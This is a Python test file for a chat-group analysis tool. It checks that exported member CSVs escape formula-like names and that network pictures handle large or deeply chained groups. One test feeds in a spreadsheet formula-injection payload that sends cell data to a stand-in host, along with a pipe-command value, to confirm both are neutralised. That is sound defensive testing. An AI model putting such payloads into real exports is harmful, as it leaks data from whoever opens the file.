"""Exports and pictures of a group: the members CSV opens in a spreadsheet with the names the
members chose kept as text, and the console's pictures draw groups of any size and shape."""

from __future__ import annotations

import csv
import io
import random

import networkx as nx

from nigehbaan.chats.exports import DRAWN_LIMIT, as_text_cell, drawn, figures, members_csv
from nigehbaan.chats.views import MemberView


def member(*names: str, telegram_id: str | None = None) -> MemberView:
    return MemberView(
        member_id=1, key="name:x", display_names=list(names), phone_e164="+923001234567",
        country="PK", telegram_id=telegram_id, is_owner=False, mention_only=False, messages=2,
        media=0, known_matches=0, added_count=0, pagerank=0.1, betweenness=0.0, core=1,
        removal_effect=0, indicators=[], triage="undetermined", triage_rule="no indicator",
    )  # fmt: skip


def test_formula_names_become_text() -> None:
    row = next(csv.DictReader(io.StringIO(members_csv([
        member('=HYPERLINK("http://x.example/?"&A1,"open")', "@cmd", "Ali",
               telegram_id="-1|calc"),
    ]))))  # fmt: skip
    assert row["display_name"] == '\'=HYPERLINK("http://x.example/?"&A1,"open")'
    assert row["aliases"] == "'@cmd; Ali" and row["telegram_id"] == "'-1|calc"
    assert row["phone_e164"] == "+923001234567"  # ours, digits only: left as written


def test_plain_names_unchanged() -> None:
    assert as_text_cell("Ali") == "Ali" and as_text_cell("") == ""
    assert [as_text_cell(c + "x") for c in "=+-@\t\r"] == [f"'{c}x" for c in "=+-@\t\r"]


def _group(size: int, seed: int = 3) -> nx.DiGraph:
    """A group as the console builds it: one admin adds everyone, a few talk to each other."""
    rng = random.Random(seed)
    g: nx.DiGraph = nx.DiGraph()
    for n in range(size):
        triage = rng.choice(["passive"] * 12 + ["undetermined"] * 3 + ["priority_suspect",
                                                                        "possible_victim"])
        g.add_node(n, label=f"m{n}", country="PK", triage=triage, pagerank=rng.random() / size)
    for n in range(1, size):
        g.add_edge(0, n, weight=1, kinds="added", first_position=n)
    for position in range(size, 2 * size):
        a, b = rng.randrange(1, size), rng.randrange(1, size)
        if a != b and not g.has_edge(a, b):
            g.add_edge(a, b, weight=1, kinds="mention", first_position=position)
    return g


def test_a_large_group_draws_the_flagged_members_first() -> None:
    """networkx lays out 500 members or more through scipy, which we do not ship: the group
    page of a 1,600-member group failed with ModuleNotFoundError before the cap."""
    g = _group(1600)
    shown, title = drawn(g)
    flagged = [n for n in g if g.nodes[n]["triage"] in ("priority_suspect", "possible_victim")]
    assert len(shown) == DRAWN_LIMIT and set(flagged) <= set(shown)
    assert f"{DRAWN_LIMIT:,} of the 1,600" in title
    # here the undetermined are the category cut short: within it, the most central go in
    cut = [n for n in g if g.nodes[n]["triage"] == "undetermined"]
    inside = [g.nodes[n]["pagerank"] for n in cut if n in shown]
    outside = [g.nodes[n]["pagerank"] for n in cut if n not in shown]
    assert inside and outside and min(inside) >= max(outside)
    assert not any(g.nodes[n]["triage"] == "passive" for n in shown)
    pictures = figures(g)
    interaction = pictures["interaction"]
    assert sum(len(t["x"]) for t in interaction["data"][1:]) == DRAWN_LIMIT
    assert sum(len(t["x"]) for t in pictures["recruitment"]["data"][1:]) == 1600
    small = _group(40)
    assert drawn(small) == (small, "Interaction network")


def test_a_chain_of_adds_deeper_than_recursion_allows_is_drawn() -> None:
    """A crafted export can make each new member add the next; the tree is still drawn."""
    chain: nx.DiGraph = nx.DiGraph()
    for n in range(3000):
        chain.add_node(n, label=f"m{n}", country="PK", triage="passive", pagerank=0.0)
    for n in range(2999):
        chain.add_edge(n, n + 1, weight=1, kinds="added", first_position=n)
    tree = figures(chain)["recruitment"]["data"]
    ys = [y for trace in tree[1:] for y in trace["y"]]
    assert len(ys) == 3000 and min(ys) == -2999 and set(tree[1]["x"]) == {0}
